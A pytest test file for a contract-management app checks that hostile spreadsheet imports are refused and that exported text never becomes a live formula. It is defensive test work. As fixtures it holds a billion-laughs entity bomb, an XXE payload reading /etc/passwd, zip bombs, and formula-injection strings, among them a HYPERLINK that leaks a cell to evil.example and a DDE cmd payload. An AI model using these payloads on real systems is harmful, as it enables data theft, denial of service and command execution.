"""Hostile files are refused before they are parsed; no text ever becomes a live formula."""

from __future__ import annotations

import shutil
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from defusedxml import DefusedXmlException
from sqlalchemy.orm import Session

from app.errors import ClausekeeperError
from app.reports import xlsx_safe
from app.reports.export import export_report
from app.reports.register_import import import_register_workbook
from app.reports.xlsx_safe import escape_text, excel_number, open_workbook, unescape_text
from tests.reports.conftest import (
    AS_OF,
    build_portfolio,
    needs_soffice,
    table_counts,
    write_workbook,
)

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + ']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row>"
    "</sheetData></worksheet>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData>'
    "</worksheet>"
)


def _refused(session: Session, path: Path) -> str:
    """Import the file: it must fail with one message and leave the database as it was."""
    before = table_counts(session)
    with pytest.raises(ClausekeeperError) as caught:
        import_register_workbook(session, path)
    session.rollback()
    assert table_counts(session) == before
    assert len(caught.value.lines()) == 1
    return str(caught.value)


def _replace_part(source: Path, target: Path, part: str, content: bytes) -> Path:
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = content if info.filename == part else zin.read(info.filename)
            zout.writestr(info.filename, data)
    return target


@pytest.fixture
def valid(tmp_path: Path) -> Path:
    return write_workbook(tmp_path / "valid.xlsx", {"Vendors": [["name"], ["Initech"]]})


def test_a_file_that_is_not_a_zip(portfolio: Session, tmp_path: Path) -> None:
    text = tmp_path / "register.xlsx"
    text.write_text("name,country\nInitech,US\n")
    assert _refused(portfolio, text) == "register.xlsx is not an .xlsx workbook"
    ole = tmp_path / "old.xls"
    ole.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    assert _refused(portfolio, ole) == (
        "old.xls is not an .xlsx workbook (an old .xls or a password-protected file: "
        "save it as .xlsx)"
    )


def test_a_zip_without_a_workbook(portfolio: Session, tmp_path: Path) -> None:
    path = tmp_path / "photos.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("holiday.jpg", b"\xff\xd8 not really")
    assert _refused(portfolio, path) == (
        "photos.xlsx is not an .xlsx workbook (a zip file without a workbook inside)"
    )


def test_missing_file(portfolio: Session, tmp_path: Path) -> None:
    assert _refused(portfolio, tmp_path / "nope.xlsx").endswith("nope.xlsx: no such file")


def test_zip_bomb_by_compression_ratio(portfolio: Session, valid: Path, tmp_path: Path) -> None:
    # 50 MB of zeros deflate to about 50 KB: a ratio near 1000 to 1, far over MAX_RATIO (200)
    bomb = tmp_path / "bomb.xlsx"
    shutil.copy(valid, bomb)
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as z, z.open("xl/media/x.bin", "w") as fh:
        for _ in range(50):
            fh.write(b"\0" * 2**20)
    message = _refused(portfolio, bomb)
    assert message.startswith("bomb.xlsx was not opened: its part xl/media/x.bin is compressed ")
    assert message.endswith(" to 1, like a zip bomb")


def test_zip_bomb_by_unpacked_size(
    portfolio: Session, valid: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The real limit is 1 GiB; a 1 MiB limit shows the rule with a small file.
    monkeypatch.setattr(xlsx_safe, "MAX_UNCOMPRESSED", 2**20)
    big = tmp_path / "big.xlsx"
    shutil.copy(valid, big)
    with zipfile.ZipFile(big, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/media/photo.bin", bytes(range(256)) * 8192)  # 2 MiB
    assert _refused(portfolio, big) == (
        "big.xlsx was not opened: it unpacks to 2 MB (at most 1 MB accepted)"
    )


def test_too_many_parts(portfolio: Session, valid: Path, tmp_path: Path) -> None:
    many = tmp_path / "many.xlsx"
    shutil.copy(valid, many)
    with zipfile.ZipFile(many, "a") as z:
        for i in range(10_001):
            z.writestr(f"xl/media/{i}.txt", b"")
    assert _refused(portfolio, many).startswith(
        "many.xlsx was not opened: it holds 10,0"  # 10,001 + the workbook's own parts
    )


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["bomb", "xxe"])
def test_xml_entities_are_refused(
    portfolio: Session, valid: Path, tmp_path: Path, payload: str
) -> None:
    hostile = _replace_part(valid, tmp_path / "hostile.xlsx", "xl/worksheets/sheet1.xml",
                            payload.encode())
    assert _refused(portfolio, hostile) == (
        "hostile.xlsx was not opened: its part xl/worksheets/sheet1.xml declares XML entities "
        "(a document type declaration), which workbooks never need"
    )


def test_utf16_xml_with_entities_is_refused(
    portfolio: Session, valid: Path, tmp_path: Path
) -> None:
    payload = BILLION_LAUGHS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    hostile = _replace_part(valid, tmp_path / "wide.xlsx", "xl/worksheets/sheet1.xml",
                            payload.encode("utf-16"))
    assert "declares XML entities" in _refused(portfolio, hostile)


def test_a_padded_prolog_does_not_hide_a_dtd(
    portfolio: Session, valid: Path, tmp_path: Path
) -> None:
    # 300 KB of blanks and a comment before the DOCTYPE: the whole prolog is read
    padded = BILLION_LAUGHS.replace(
        '<?xml version="1.0"?>\n', '<?xml version="1.0"?>' + " " * 200_000 + "<!--" +
        "x" * 100_000 + "-->"
    )
    hostile = _replace_part(valid, tmp_path / "padded.xlsx", "xl/worksheets/sheet1.xml",
                            padded.encode())
    assert "declares XML entities" in _refused(portfolio, hostile)


def test_defusedxml_backs_up_the_check(
    portfolio: Session, valid: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Were the prolog check fooled, openpyxl's defusedxml parser still refuses the entities."""
    monkeypatch.setattr(xlsx_safe, "_prolog_declares_dtd", lambda _fh: False)
    hostile = _replace_part(valid, tmp_path / "h.xlsx", "xl/worksheets/sheet1.xml",
                            BILLION_LAUGHS.encode())
    message = _refused(portfolio, hostile)
    assert "EntitiesForbidden" in message


def test_openpyxl_itself_refuses_entities(valid: Path, tmp_path: Path) -> None:
    """The second line of defence: openpyxl parses with defusedxml."""
    assert openpyxl.DEFUSEDXML
    hostile = _replace_part(valid, tmp_path / "h.xlsx", "xl/worksheets/sheet1.xml",
                            BILLION_LAUGHS.encode())
    with hostile.open("rb") as fh, pytest.raises(ValueError, match="Unable to read") as caught:
        openpyxl.load_workbook(fh)
    assert isinstance(caught.value.__cause__, DefusedXmlException)


def test_a_damaged_workbook(portfolio: Session, valid: Path, tmp_path: Path) -> None:
    damaged = _replace_part(valid, tmp_path / "damaged.xlsx", "xl/workbook.xml", b"<workbook")
    message = _refused(portfolio, damaged)
    assert message.startswith("damaged.xlsx is not an .xlsx workbook (")


def test_a_valid_workbook_opens(valid: Path) -> None:
    with open_workbook(valid) as wb:
        assert wb.sheetnames == ["Vendors"]


# --- writing -----------------------------------------------------------------------------------

HOSTILE = {
    "vendor": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "person": "@SUM(1+1)",
    "title": "+1",
    "clause": "-2+3",
    "sla": "=1+1",
    "note": "\t=cmd|' /C calc'!A0",
}


def test_excel_number_keeps_values_exact() -> None:
    assert excel_number(Decimal("120000.50")) == Decimal("120000.50")
    assert excel_number(Decimal("0.1")) == Decimal("0.1")
    # 16 and more significant digits: Excel would round them, so they are written as text
    assert excel_number(Decimal("1234567.891234567891")) == "1234567.891234567891"
    assert excel_number(Decimal("0.30000000000000004")) == "0.30000000000000004"
    assert excel_number(Decimal("123456789012345")) == Decimal("123456789012345")
    assert excel_number(Decimal("1E+400")) == "1" + "0" * 400


def test_escaping_round_trips() -> None:
    for text in ("plain", "a\rb", "x\x01y", "_x0041_", "_x005F_", "tab\tand\nnewline", ""):
        assert unescape_text(escape_text(text)) == text
    assert escape_text("_x0041_") == "_x005F_x0041_"  # what Excel shows as _x0041_
    assert escape_text("\x01") == "_x0001_"


def _all_reports(session: Session, folder: Path) -> list[Path]:
    return [
        export_report(session, kind, folder / f"{kind}.xlsx", AS_OF)
        for kind in ("register", "renewals", "knowledge", "sla")
    ]


def test_no_text_becomes_a_formula(session: Session, tmp_path: Path) -> None:
    build_portfolio(session, names=HOSTILE)
    session.commit()
    hostile_texts = set(HOSTILE.values())
    for path in _all_reports(session, tmp_path):
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    xml = z.read(name).decode()
                    assert "<f>" not in xml and "<f " not in xml, (path.name, name)
        wb = openpyxl.load_workbook(path)  # every cell of every sheet
        found: set[str] = set()
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith("'")
                        found.update(t for t in hostile_texts if t in cell.value)
        # unchanged, no prefix added: the register holds every one of them as is
        if path.name == "register.xlsx":
            assert found == hostile_texts
    knowledge = openpyxl.load_workbook(tmp_path / "knowledge.xlsx")
    vendors = [r[0].value for r in knowledge["Vendors"].iter_rows(min_row=4)]
    assert HOSTILE["vendor"] in vendors


@needs_soffice
def test_libreoffice_shows_the_texts_literally(
    session: Session, tmp_path: Path, to_csv: Callable[[Path], dict[str, list[list[str]]]]
) -> None:
    build_portfolio(session, names=HOSTILE)
    session.commit()
    register = export_report(session, "register", tmp_path / "register.xlsx", AS_OF)
    sheets = to_csv(register)
    assert sheets["Vendors"][1][0] == HOSTILE["vendor"]  # not "Click me"
    assert [r[2] for r in sheets["SLAs"][1:]] == ["%", "hours"]
    assert sheets["SLAs"][1][1] == "=1+1"  # not 2
    titles = {r[0]: r[1] for r in sheets["Contracts"][1:]}
    assert titles["C-2021-014"] == "+1"
    people = {row[1]: row[0] for row in sheets["People"][1:]}  # e-mail -> name
    assert people["ann@corp.example"] == "@SUM(1+1)"
